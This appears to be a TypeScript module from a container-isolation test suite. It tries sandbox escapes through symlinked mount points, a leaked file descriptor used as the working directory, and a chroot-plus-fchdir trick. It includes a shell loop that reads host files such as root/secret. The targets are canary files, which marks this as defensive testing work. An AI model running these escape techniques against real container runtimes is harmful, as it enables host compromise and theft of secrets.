import { setTimeout as sleep } from 'node:timers/promises'
import { runCommand } from '../../host/command.ts'
import { exists, mkdir, readdir, readText, removeTree, symlink } from '../../host/files.ts'
import { places } from '../stage/places.ts'
import type { Scene } from '../stage/scene.ts'
import type { Evidence } from '../attack.ts'

/** Images that attack whoever starts them, who is root. */

const ledTo = `${places.canaries}/links`

/** What an image has links in place of: each starts an application once. */
const linked: readonly (readonly string[])[] = [['dev'], ['proc'], ['sys'], ['tmp', 'run', 'data']]

/** Starts it from an image whose mount points lead to a directory of the host, by its absolute path. */
export async function startWithLinks(scene: Scene): Promise<Evidence> {
  await removeTree(ledTo)
  await mkdir(ledTo, { recursive: true })
  for (const names of linked) {
    const layer = `/var/lib/scene/links-${names[0] ?? ''}`
    await removeTree(layer)
    await mkdir(layer, { recursive: true })
    for (const name of names) await symlink(ledTo, `${layer}/${name}`)
    if (scene.column.kind === 'control') await prepareCarelessly(layer, names)
    else await scene.startOtherwise({ layers: [...scene.released.layers, layer] })
    const found = await readdir(ledTo)
    if (found.length > 0)
      return `${found.slice(0, 3).join(', ')} of the sandbox lie on the host, by its link /${names.join(', /')}`
  }
  return undefined
}

/** As root does who takes an image's directories for directories. */
async function prepareCarelessly(root: string, names: readonly string[]): Promise<void> {
  for (const name of names) await runCommand(['sh', '-c', 'mkdir -p "$1" && : >"$1/null"', 'sh', `${root}/${name}`])
}

const descriptors = [3, 5, 6, 7, 8, 9, 10]

/** Looks for the host above where it is. */
const looking =
  'for up in . .. ../.. ../../.. ../../../.. ../../../../..; do cat "$up/etc/host-notes" "$up/root/secret" 2>/dev/null; done; true'

/** Starts it with a working directory that is a descriptor: one that a runtime has forgotten to close leads out. */
export async function startInLeftDirectory(scene: Scene): Promise<Evidence> {
  const isOut = (text: string) =>
    [scene.token('hostFile'), scene.token('rootFile')].some((token) => text.includes(token))
  if (scene.column.kind === 'control') return isOut(await enterCarelessly()) ? 'a file of the host came out' : undefined
  for (const number of descriptors) {
    const reason = await scene.startOtherwise({ workdir: `/proc/self/fd/${number}`, argv: ['/bin/sh', '-c', looking] })
    if (reason !== undefined) continue
    if (isOut(await wordsOf(scene))) return `a file of the host came out, by descriptor ${number}`
  }
  return undefined
}

/** What it has printed when it has ended, or has had the time to. */
async function wordsOf({ running: { attacked } }: Scene): Promise<string> {
  for (let attempt = 0; attempt < 50 && (await exists(`/proc/${attacked.pid}`)); attempt += 1) await sleep(100)
  if (attacked.log === undefined) throw new Error('nobody knows where its log is')
  return (await readText(attacked.log)) ?? ''
}

/** A runtime that changes its root and keeps a directory open from before. */
async function enterCarelessly(): Promise<string> {
  const program = 'import os, sys\nleft = os.open("/", os.O_RDONLY)\nos.chroot(sys.argv[1])\nos.fchdir(left)\n'
  const reading = 'sys.stdout.write(open("etc/host-notes").read())'
  const argv = [`${places.tools}/python3`, '-c', program + reading, places.image] as const
  return (await runCommand(argv, { allowCodes: [0, 1] })).stdout
}
